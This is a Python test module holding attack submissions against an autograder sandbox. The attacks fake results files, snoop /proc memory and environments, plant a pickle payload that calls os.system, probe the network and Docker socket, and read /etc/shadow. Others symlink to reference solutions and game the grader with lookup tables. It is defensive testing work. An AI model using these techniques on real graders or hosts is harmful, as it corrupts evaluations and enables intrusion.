"""The hostile corpus: submissions that attack the grader instead of solving the exercises.

Each Attack is a short description plus code appended, at test time, to a copy
of student_stubs/ (runner.py builds it). The code is written so that it returns
the right answers ONLY IF its attack works (it imports the reference if it can
find it, else returns garbage; it fakes results.json and returns wrong values):
a leak then shows up as points. `honest` code (a few correct functions) is
appended to both the attack and its control run; the points the control earns
are the points the attack deserves.

Placeholders replaced by the runner: __OUT_DIR__ (the grader's results folder),
__REPO__ (this repository), __WORKER_DATA__ (the grader's worker-data folder on
the host), __MARKER_DIR__ (where a host-side effect would leave a file),
__TOKEN__ (unique per run, names every file and process an attack leaves).
Nothing here damages the machine if the defences fail: marker files only, and
at most 300 sleeping processes.

The attacks at the end (TRUSTED_SIDE) aim at the grader's own process, which
reads the submission's folder and notebooks: a `craft` step shapes the folder
after it is built (links to the kit's solutions, notebooks that break JSON
readers or Python's parser, files too large or too many). They too must earn
nothing, and every one must still leave a complete results.json.
"""

import json
import os
from dataclasses import dataclass, field

A1_FUNCTIONS = ["sigmoid", "sigmoid_grad", "relu", "relu_grad", "leaky_relu", "leaky_relu_grad",
                "tanh", "tanh_grad", "softmax", "log_softmax"]

# Appended once before an attack's code in every module it patches.
PRELUDE = '''

# ---- hostile code appended at test time by tests/hostile (never part of a real submission) ----
import os as _os
import sys as _sys

import numpy as _np

_A1 = __A1__


def _garbage(z, *args, **kwargs):
    """Wrong values of the right shape, new on every call (so no self-consistency check passes)."""
    z = _np.asarray(z)
    return (_np.random.default_rng().standard_normal(z.shape) + 7).astype(
        z.dtype if z.dtype.kind == "f" else float)


def _leak(what):
    print("LEAK:", what, flush=True)


def _neuron_garbage(x, w, b, activation="sigmoid"):
    return _garbage(_np.asarray(x)[..., 0])
'''.replace("__A1__", repr(A1_FUNCTIONS))

# The "honest" part of most attacks: every function returns wrong values and changes
# nothing. Its control run shows what such a submission earns without the attack.
ALL_GARBAGE = '''
import numpy as _np

_A1 = __A1__


def _garbage(z, *args, **kwargs):
    z = _np.asarray(z)
    return (_np.random.default_rng().standard_normal(z.shape) + 7).astype(
        z.dtype if z.dtype.kind == "f" else float)


def _neuron_garbage(x, w, b, activation="sigmoid"):
    return _garbage(_np.asarray(x)[..., 0])


for _name in _A1:
    globals()[_name] = _garbage
neuron = _neuron_garbage
'''.replace("__A1__", repr(A1_FUNCTIONS))

HONEST_RELU = '''
def relu(z):
    return np.maximum(z, 0)


def relu_grad(z):
    return (z > 0).astype(z.dtype)
'''

HONEST_TANH_GRAD = '''
def tanh_grad(z):
    return 1 - np.tanh(z) ** 2
'''


@dataclass
class Attack:
    """One hostile submission.

    name, description: for the report.
    code: {module: source appended after PRELUDE}.
    honest: {module: correct code}, appended to the attack and to its control.
    only, keyword: what to grade (--only, -k) to keep the run short.
    budget: the submission's time budget (--budget), None for the rubric's.
    bound_seconds: the wall time grading must stay under.
    exact: True if the attack must not cost an honest check anything
        (awarded == deserved check by check), not just earn nothing unearned.
    craft: callable(submission_folder, repo_root) shaping the folder after it
        is built (trusted-side attacks); None for attacks in code.
    exit_status: the grader's exit status the attack must end with (4: the
        submission could not be read).
    """

    name: str
    description: str
    code: dict
    honest: dict = field(default_factory=dict)
    only: str = "a1"
    keyword: str = None
    budget: float = None
    bound_seconds: float = 60
    exact: bool = False
    craft: object = None
    exit_status: int = 0


ATTACKS = [
    Attack(
        "numpy_monkeypatch",
        "replace np.allclose, np.isclose, np.array_equal, np.testing and builtins.all/abs "
        "with functions that always agree, then return garbage",
        {"activations": '''
import builtins as _builtins
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, bool)
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_equal = lambda *a, **k: None
_builtins.all = lambda *a: True
_builtins.abs = lambda x: 0
'''}, honest={"activations": ALL_GARBAGE}),
    Attack(
        "builtins_monkeypatch",
        "replace builtins.isinstance, float, type checks and print, then return garbage",
        {"activations": '''
import builtins as _builtins
_builtins.isinstance = lambda *a: True
_builtins.float = lambda *a: 0.0
_builtins.len = lambda x: 0
'''}, honest={"activations": ALL_GARBAGE}),
    Attack(
        "fake_results_json",
        "write a full-score results.json into cwd, /tmp, $HOME, the grader's results folder and "
        "every folder named in /proc/self/mountinfo, again from a process that outlives the call",
        {"activations": '''
import json as _json
_FAKE = {"score": 1000.0, "output": "HOSTILE-FAKE __TOKEN__", "tests": [],
         "extra_data": {"marker": "HOSTILE-FAKE __TOKEN__"}}


def _candidate_dirs():
    dirs = {_os.getcwd(), "/tmp", _os.path.expanduser("~"), "__OUT_DIR__",
            _os.path.dirname("__OUT_DIR__"), "/autograder/results"}
    try:
        for line in open("/proc/self/mountinfo"):
            parts = line.split()
            for path in (parts[3], parts[4]):  # the host path shown, and the mount point
                if any(word in path for word in ("grad", "result", "out", "tmp", "work")):
                    dirs.add(path)
    except OSError:
        pass
    return dirs


def _write_fakes():
    for folder in _candidate_dirs():
        try:
            with open(_os.path.join(folder, "results.json"), "w") as f:
                _json.dump(_FAKE, f)
        except OSError:
            pass


def _start_late_writer():
    if _os.fork() == 0:  # leaves the process group, then rewrites the fakes for 20 s
        try:
            _os.setsid()
            import time
            for _ in range(40):
                time.sleep(0.5)
                _write_fakes()
        finally:
            _os._exit(0)


def sigmoid(z):
    _write_fakes()
    if not globals().get("_late_writer"):
        globals()["_late_writer"] = True
        _start_late_writer()
    return _garbage(z)
'''}, honest={"activations": ALL_GARBAGE}, keyword="values", bound_seconds=60),
    Attack(
        "exits_and_signals",
        "os._exit, sys.exit, KeyboardInterrupt, SystemExit, GeneratorExit, a custom "
        "BaseException, SIGSEGV and SIGTERM, one per function; relu and relu_grad are honest",
        {"activations": '''
import signal as _signal


class _Escape(BaseException):
    pass


def sigmoid(z):
    _os._exit(3)


def sigmoid_grad(z):
    _sys.exit(0)


def tanh(z):
    raise KeyboardInterrupt


def tanh_grad(z):
    raise SystemExit("done")


def softmax(z):
    raise GeneratorExit


def log_softmax(z):
    raise _Escape


def leaky_relu(z, alpha=0.01):
    _os.kill(_os.getpid(), _signal.SIGSEGV)


def leaky_relu_grad(z, alpha=0.01):
    _os.kill(_os.getpid(), _signal.SIGTERM)
'''}, honest={"activations": HONEST_RELU}, keyword="values", exact=True, bound_seconds=90),
    Attack(
        "exit_at_import",
        "os._exit(0) when the module is imported: every call finds a dead worker",
        {"activations": "_os._exit(0)\n"}, bound_seconds=120),
    Attack(
        "infinite_loop",
        "tanh never returns; tanh_grad is honest and must still earn its points",
        {"activations": '''
def tanh(z):
    while True:
        pass
'''}, honest={"activations": HONEST_TANH_GRAD}, keyword="values and tanh", exact=True,
        bound_seconds=45),
    Attack(
        "hang_everywhere",
        "ignore SIGTERM/SIGINT and loop forever at import: every call hangs; the submission's "
        "budget (10 s here) must end grading",
        {"activations": '''
import signal as _signal
for _signal_number in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
    _signal.signal(_signal_number, _signal.SIG_IGN)
while True:
    pass
'''}, budget=10, bound_seconds=40),
    Attack(
        "memory_exhaustion",
        "grow lists until MemoryError, ask NumPy for 2 TB, then return garbage; relu is honest",
        {"activations": '''
def softmax(z):
    hog = []
    try:
        while True:
            hog.append(bytearray(2**26))
    except MemoryError:
        pass
    return _garbage(z)


def log_softmax(z):
    return _np.ones((2**38,))[: z.size].reshape(z.shape)


def sigmoid(z):
    return _np.zeros((2**20, 2**20))[: z.shape[0], : z.shape[1]]
'''}, honest={"activations": ALL_GARBAGE + HONEST_RELU}, keyword="values", exact=True,
        bound_seconds=90),
    Attack(
        "process_storm",
        "fork up to 300 sleeping processes that leave the process group (bounded, so the "
        "machine survives if the limits fail), then return garbage",
        {"activations": '''
def relu(z):
    if not globals().get("_stormed"):
        globals()["_stormed"] = True
        children = 0
        for _ in range(300):
            try:
                pid = _os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    _os.setsid()
                    with open("/proc/self/comm", "w") as f:
                        f.write("hx-__TOKEN__"[:15])
                    import time
                    time.sleep(120)
                finally:
                    _os._exit(0)
            children += 1
        if children >= 300:
            _leak("forked 300 processes: no process limit")
    return _garbage(z)
'''}, honest={"activations": ALL_GARBAGE}, keyword="relu", bound_seconds=90),
    Attack(
        "lying_values",
        "an ndarray subclass whose == is always true, a fully masked array, objects whose "
        "__eq__ is always true, __array__/__array_function__ tricks, a float subclass and an "
        "np.float64 subclass that equal anything, object/complex/structured arrays, lists",
        {"activations": '''
class _Liar(_np.ndarray):
    def __eq__(self, other):
        return _np.ones(self.shape, bool)

    def __ne__(self, other):
        return _np.zeros(self.shape, bool)

    def __array_function__(self, func, types, args, kwargs):
        return True


class _AlwaysEqual:
    def __eq__(self, other):
        return True

    def __array__(self, dtype=None, copy=None):
        return _np.zeros(3)

    def __array_ufunc__(self, *args, **kwargs):
        return True


class _LyingFloat(float):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0


class _LyingScalar(_np.float64):
    def __eq__(self, other):
        return True


def sigmoid(z):
    return _garbage(z).view(_Liar)


def sigmoid_grad(z):
    return _np.ma.masked_all(z.shape)


def relu(z):
    return _AlwaysEqual()


def relu_grad(z):
    out = _np.empty(z.shape, dtype=object)
    out[...] = _AlwaysEqual()
    return out


def leaky_relu(z, alpha=0.01):
    return _garbage(z).astype(complex)


def leaky_relu_grad(z, alpha=0.01):
    return _np.zeros(z.shape, dtype=[("value", "f8")])


def tanh(z):
    return _garbage(z).tolist()


def tanh_grad(z):
    return _LyingScalar(7.0)


def softmax(z):
    return (_garbage(z) for _ in range(1))


log_softmax = sigmoid


def neuron(x, w, b, activation="sigmoid"):
    if _np.ndim(x) == 1:
        return _LyingFloat(1e9)
    return _neuron_garbage(x, w, b).view(_Liar)
'''}, honest={"activations": ALL_GARBAGE}),
    Attack(
        "find_the_reference",
        "search sys.path, the folders in /proc/self/mountinfo, /proc/*/cwd and /proc/*/root "
        "and the filesystem for the reference (or the grader's secrets) and delegate to it",
        {"activations": '''
import importlib.util as _importlib_util

_OWN = _os.path.dirname(_os.path.realpath(__file__))


def _is_solution(path):
    try:
        text = open(path).read()
    except (OSError, UnicodeDecodeError):
        return False
    return "def relu" in text and "NotImplementedError()" not in text.split("def relu")[1][:600]


def _candidate_roots():
    roots = list(_sys.path) + ["__REPO__", "/work", "/root", "/home", "/autograder", "/opt", "/srv"]
    try:
        for line in open("/proc/self/mountinfo"):
            roots += line.split()[3:5]
    except OSError:
        pass
    try:
        for pid in _os.listdir("/proc"):
            if pid.isdigit():
                roots += [f"/proc/{pid}/cwd", f"/proc/{pid}/root/work/main"]
    except OSError:
        pass
    return roots


def _search():
    seen = 0
    for root in _candidate_roots() + ["/"]:
        for folder, subfolders, files in _os.walk(root):
            seen += 1
            if seen > 40000:
                return None
            subfolders[:] = [s for s in subfolders if s not in ("proc", "sys", "dev", ".git")]
            if _os.path.realpath(folder) == _OWN:
                continue
            if "secrets.toml" in files:
                _leak(f"found the grader's secrets in {folder}")
            if "mnist_test.csv" in files:
                _leak(f"found MNIST's test labels in {folder}")
            if "activations.py" in files and _is_solution(_os.path.join(folder, "activations.py")):
                return _os.path.join(folder, "activations.py")
    return None


def _delegate():
    for name in ("reference", "grader"):
        try:
            __import__(name)
            _leak(f"imported {name}")
        except Exception:
            pass
    path = _search()
    if path is None:
        return
    _leak(f"found a solution at {path}")
    spec = _importlib_util.spec_from_file_location("_found_solution", path)
    module = _importlib_util.module_from_spec(spec)
    spec.loader.exec_module(module)
    for name in _A1 + ["neuron"]:
        globals()[name] = getattr(module, name)


_delegate()
'''}, honest={"activations": ALL_GARBAGE}, bound_seconds=120),
    Attack(
        "read_the_parent",
        "read /proc/<pid>/environ, cmdline, maps, mem and fd of every other process; use "
        "/proc/<pid>/cwd to reach the reference",
        {"activations": '''
def _snoop():
    own_environ = open("/proc/self/environ", "rb").read()
    mine = {str(_os.getpid())}
    for pid in _os.listdir("/proc"):
        if not pid.isdigit() or pid in mine:
            continue
        try:
            environ = open(f"/proc/{pid}/environ", "rb").read()
            if environ and environ != own_environ:
                _leak(f"read the environment of process {pid} ({len(environ)} bytes)")
        except OSError:
            pass
        try:
            first = open(f"/proc/{pid}/maps").readline().split()[0].split("-")
            with open(f"/proc/{pid}/mem", "rb") as mem:
                mem.seek(int(first[0], 16))
                if mem.read(16):
                    _leak(f"read the memory of process {pid}")
        except (OSError, IndexError, ValueError):
            pass
        try:
            for fd in _os.listdir(f"/proc/{pid}/fd"):
                target = _os.readlink(f"/proc/{pid}/fd/{fd}")
                _leak(f"listed the file descriptors of process {pid}: {fd} -> {target}")
                break
        except OSError:
            pass
        try:
            cwd = _os.readlink(f"/proc/{pid}/cwd")
            path = _os.path.join(f"/proc/{pid}/cwd", "reference", "activations.py")
            if _os.path.exists(path):
                _leak(f"reached the reference through the working folder {cwd} of process {pid}")
                import importlib.util as _u
                spec = _u.spec_from_file_location("_their_reference", path)
                module = _u.module_from_spec(spec)
                spec.loader.exec_module(module)
                for name in _A1 + ["neuron"]:
                    globals()[name] = getattr(module, name)
        except OSError:
            pass


_snoop()
'''}, honest={"activations": ALL_GARBAGE}),
    Attack(
        "network",
        "open TCP connections to the internet and the loopback, send UDP, try the Docker socket",
        {"activations": '''
import socket as _socket


def _try_network():
    for host, port in (("pypi.org", 443), ("1.1.1.1", 53), ("8.8.8.8", 53), ("127.0.0.1", 22)):
        try:
            with _socket.create_connection((host, port), timeout=1.5):
                _leak(f"connected to {host}:{port}")
        except OSError:
            pass
    for path in ("/var/run/docker.sock", "/run/docker.sock"):
        try:
            s = _socket.socket(_socket.AF_UNIX)
            s.connect(path)
            _leak(f"connected to {path}")
        except OSError:
            pass


_try_network()
'''}, honest={"activations": ALL_GARBAGE}),
    Attack(
        "output_flood",
        "print 10 MB to stdout and stderr per call, write raw bytes to fds 1 and 2, and leave a "
        "process flooding stdout forever; relu is honest and must keep its points",
        {"activations": '''
_honest_relu = relu


def _flood():
    chunk = "x" * 65536
    for _ in range(80):
        print(chunk)
        _sys.stderr.write(chunk)
    for fd in (1, 2):
        data = memoryview(b"y" * 2**20)
        while data:
            data = data[_os.write(fd, data):]
    if not globals().get("_flooder") and _os.fork() == 0:
        try:
            while True:
                _os.write(1, b"z" * 65536)
        finally:
            _os._exit(0)
    globals()["_flooder"] = True


def relu(z):
    _flood()
    return _honest_relu(z)
'''}, honest={"activations": HONEST_RELU}, keyword="relu and not leaky", exact=True,
        bound_seconds=60),
    Attack(
        "forge_answers",
        "find the worker's response pipe (gc, stack frames, argv) and write forged answers: "
        "verdict fields, a 1 TB header, JSON nested 100000 deep, an .npy claiming 10^12 "
        "entries, a pickled object array that runs code when loaded, a scalar that is 3-D, "
        "grader-only nodes, 10 MB error messages",
        {"activations": '''
import gc as _gc
import json as _json
import pickle as _pickle
import struct as _struct


def _response_fd():
    for obj in _gc.get_objects():
        if type(obj).__name__ == "Worker" and hasattr(obj, "response_fd"):
            return obj.response_fd
    frame = _sys._getframe()
    while frame is not None:
        owner = frame.f_locals.get("self")
        if hasattr(owner, "response_fd"):
            return owner.response_fd
        frame = frame.f_back
    return int(_sys.argv[4])


def _npy(descr, shape, data):
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + _struct.pack("<H", len(header)) + header + data


def _send(head, blobs=(), length=None):
    raw = head if isinstance(head, bytes) else _json.dumps(head).encode()
    parts = [_struct.pack(">Q", len(raw) if length is None else length), raw]
    for blob in blobs:
        parts += [_struct.pack(">Q", len(blob)), blob]
    data = memoryview(b"".join(parts))
    fd = _response_fd()
    while data:
        data = data[_os.write(fd, data):]


class _RunsCode:
    def __reduce__(self):
        return (_os.system, ("touch __MARKER_DIR__/pickle-ran-__TOKEN__",))


def _garbage_npy(z):
    z = _np.asarray(z)
    return _npy("<f8", tuple(z.shape), _garbage(z).astype("<f8").tobytes())


def sigmoid(z):  # well-formed answers that also claim a verdict; the call returns too
    claims = [["score", 100], ["passed", True], ["status", "passed"], ["verdict", "passed"],
              ["credit", 1.0], ["seconds", 0.0]]
    _send({"body": {"$dict": [["value", {"$array": 0}]] + claims}, "arrays": 1}, [_garbage_npy(z)])
    _send({"body": {"value": {"$array": 0}}, "arrays": 1}, [_garbage_npy(z)])  # no $dict
    return _garbage(z)


def sigmoid_grad(z):
    _send(b"{}", length=2**40)
    _os._exit(0)


def relu(z):
    _send(b'{"body": ' + b"[" * 100000 + b"]" * 100000 + b', "arrays": 0}')
    _os._exit(0)


def relu_grad(z):
    _send({"body": {"value": {"$array": 0}}, "arrays": 1}, [_npy("<f8", (10**12,), b"\\0" * 8)])
    _os._exit(0)


def tanh(z):
    payload = _pickle.dumps(_RunsCode())
    _send({"body": {"value": {"$array": 0}}, "arrays": 1}, [_npy("|O", (1,), payload)])
    _os._exit(0)


def tanh_grad(z):
    _send({"body": {"value": {"$scalar": 0, "cls": "float64"}}, "arrays": 1},
          [_npy("<f8", (2, 2, 2), b"\\0" * 64)])
    _os._exit(0)


def softmax(z):
    _send({"body": {"value": {"$fn": "cubic_sum", "args": {"c": 1.0}}}, "arrays": 0})
    _os._exit(0)


def log_softmax(z):
    _send({"body": {"error": {"type": "T" * 10**6, "message": "M" * 10**7,
                              "not_implemented": False}}, "arrays": 0})
    _os._exit(0)


def leaky_relu(z, alpha=0.01):
    _send({"body": {"value": {"$data": "../../etc/shadow"}}, "arrays": 0})
    _os._exit(0)


def leaky_relu_grad(z, alpha=0.01):
    _send({"body": {"value": {"$array": 0, "cls": "ndarray"}}, "arrays": 1},
          [_npy("<f8", tuple(_np.shape(z)), b"\\0" * 7)])
    _os._exit(0)


def neuron(x, w, b, activation="sigmoid"):
    deep = {"value": None}
    for _ in range(40):
        deep = {"$tuple": [deep]}
    _send({"body": {"value": deep}, "arrays": 0})
    _os._exit(0)
'''}, honest={"activations": ALL_GARBAGE}, keyword="values or neuron", bound_seconds=90),
    Attack(
        "tamper_shared_files",
        "create files in /data, the worker's code, the Python environment, the grader, the "
        "reference and the results folder, to change later submissions' results",
        {"activations": '''
def _tamper():
    targets = {"/data", "/opt/worker", _sys.prefix, _os.path.dirname(_np.__file__),
               "__OUT_DIR__", "__REPO__", "__REPO__/grader", "__REPO__/grader/sandbox",
               "__REPO__/reference", "__WORKER_DATA__"} | set(_sys.path)
    for folder in targets:
        try:
            with open(_os.path.join(folder, "hostile-tamper-__TOKEN__"), "w") as f:
                f.write("tampered")
            _leak(f"created a file in {folder}")
        except OSError:
            pass


_tamper()
'''}, honest={"activations": ALL_GARBAGE}),
]



# ---------------------------------------------------------------- attacks on the trusted side


def _link_every_module_to_the_reference(folder, repo):
    for module in folder.glob("*.py"):
        target = repo / "reference" / module.name
        if target.exists():
            module.unlink()
            module.symlink_to(target)


def _link_the_folder_to_the_solutions(folder, repo):
    """Notebooks linked from the kit's source notebooks, which hold every solution."""
    for module in folder.glob("*.py"):
        module.unlink()
    (folder / "a1").symlink_to(repo / "assignments" / "source" / "a1")
    (folder / "activations.ipynb").symlink_to(
        repo / "assignments" / "source" / "a1" / "activations.ipynb")


def _notebooks_that_break_readers(folder, repo):
    """Notebook submissions only: broken JSON, JSON nested 100,000 deep, a cell that does not
    parse, a cell of shell escapes, a notebook of 5,000 cells, and a huge notebook."""
    for module in folder.glob("*.py"):
        module.unlink()
    source = json.loads((repo / "assignments" / "source" / "a1" /
                         "activations.ipynb").read_text())
    (folder / "broken.ipynb").write_text('{"cells": [ {"cell_type": "code", "source": "x')
    (folder / "deep.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    cells = []
    for cell in source["cells"]:
        grade_id = (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id", "")
        if grade_id.startswith("activations-"):
            # Garbage that parses, then one cell that does not, then shell escapes.
            name = grade_id.split("-", 1)[1]
            cell = dict(cell, source=f"def {name}(*args, **kwargs):\n    return 7.0\n")
        cells.append(cell)
    cells.append({"cell_type": "code", "metadata": {"nbgrader": {"grade_id": "activations-x"}},
                  "source": "def broken(:\n    pass\n", "outputs": []})
    cells.append({"cell_type": "code", "metadata": {"nbgrader": {"grade_id": "activations-y"}},
                  "source": "!cat /etc/shadow\n%run ../../reference/activations.py\n",
                  "outputs": []})
    (folder / "garbage.ipynb").write_text(json.dumps(dict(source, cells=cells)))
    many = [{"cell_type": "code", "metadata": {}, "source": "1", "outputs": []}] * 5_000
    (folder / "many.ipynb").write_text(json.dumps(dict(source, cells=many)))
    with open(folder / "huge.ipynb", "w") as f:
        f.write('{"cells": [], "padding": "' + "x" * (25 * 2**20) + '"}')


def _too_many_and_too_large(folder, repo):
    """5,000 small files, a 3 MB layers.py, a file that is a FIFO, a name with a newline."""
    many = folder / "many"
    many.mkdir()
    for k in range(5_000):
        (many / f"f{k}.py").write_text("")
    with open(folder / "layers.py", "a") as f:
        f.write("\n# padding\n" + "#" * (3 * 2**20) + "\n")
    os.mkfifo(folder / "losses.py.fifo")
    (folder / "odd\nname.py").write_text("x = 1\n")


def _lookup_table_of_public_answers(folder, repo):
    """The reference behind a table of every public call's inputs: right there, wrong elsewhere."""
    import shutil  # noqa: PLC0415

    from .lookup import build_lookup_submission  # noqa: PLC0415

    shutil.rmtree(folder)
    build_lookup_submission(repo / "reference", folder, LOOKUP_ASSIGNMENTS, "not task_")


LOOKUP_ASSIGNMENTS = ["a1", "a2", "a3", "a4", "a5"]


def _stored_weights(folder, repo):
    """Networks trained elsewhere on the public data, loaded by train when it sees the task."""
    import shutil  # noqa: PLC0415

    from .stored_weights import build_stored_weights_submission  # noqa: PLC0415

    shutil.rmtree(folder)
    build_stored_weights_submission(repo / "reference", folder)


def _closed_form(folder, repo):
    """A network whose last layer is solved by least squares, its hidden layers left random."""
    import shutil  # noqa: PLC0415

    from .closed_form import build_closed_form_submission  # noqa: PLC0415

    shutil.rmtree(folder)
    build_closed_form_submission(repo / "reference", folder)

TRUSTED_SIDE = [
    Attack("link_to_the_reference",
           "replace every module by a symbolic link to the kit's reference/ module of the same "
           "name (on Gradescope the kit lies at a known path)",
           {}, only="a1,a2", keyword="not hidden", craft=_link_every_module_to_the_reference,
           bound_seconds=90),
    Attack("link_to_the_solution_notebooks",
           "a submission of symbolic links to the kit's source notebooks, which hold every "
           "solution cell", {}, only="a1", craft=_link_the_folder_to_the_solutions),
    Attack("notebooks_that_break_readers",
           "notebooks that break JSON readers and Python's parser: broken JSON, JSON nested "
           "100,000 deep, a cell that does not parse, shell escapes, 5,000 cells, 25 MB",
           {}, only="a1", craft=_notebooks_that_break_readers),
    Attack("lookup_table_of_public_answers",
           "answer right exactly on the inputs of the public checks (tabulated from the "
           "reference graded as the student bundle grades) and wrong on every other input",
           {}, only=",".join(LOOKUP_ASSIGNMENTS), keyword="not task_",
           craft=_lookup_table_of_public_answers, bound_seconds=120),
    Attack("stored_weights",
           "ship networks trained elsewhere on the public data (XOR, moons, spirals, MNIST) and "
           "load them in train when the data's shape gives the task away; an honest history",
           {}, only="a5,a6", keyword="task_", craft=_stored_weights, bound_seconds=240),
    Attack("closed_form_fit",
           "fit the last layer by NumPy's least squares on a wide layer of random ReLU "
           "features: no minibatch, loss or update rule; an honest history",
           {}, only="a5", keyword="task_", craft=_closed_form, bound_seconds=180),
    Attack("too_many_and_too_large",
           "5,000 files, a 3 MB module, a FIFO (reading it would block), a name with a newline",
           {}, only="a1,a2", keyword="not hidden", craft=_too_many_and_too_large,
           bound_seconds=90),
]
ATTACKS += TRUSTED_SIDE

BY_NAME = {attack.name: attack for attack in ATTACKS}
